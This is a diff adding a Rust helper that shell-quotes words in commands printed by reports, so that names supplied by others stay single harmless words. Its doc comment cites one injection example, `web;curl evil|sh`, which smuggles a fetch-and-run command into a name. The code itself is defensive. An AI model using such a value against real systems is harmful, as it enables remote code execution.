@@ -1,0 +1,16 @@
+//! Words of the shell commands that reports print. Pure.
+
+/// One word of a shell command: as it is when it is plain, else quoted.
+/// Tag keys, names and ids come from whoever made the resource or the call,
+/// so a name like `web;curl evil|sh` must stay one harmless word.
+pub(crate) fn word(text: &str) -> String {
+    if !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_./:=@+-,".contains(c))
+    {
+        text.to_string()
+    } else {
+        format!("'{}'", text.replace('\'', "'\\''"))
+    }
+}
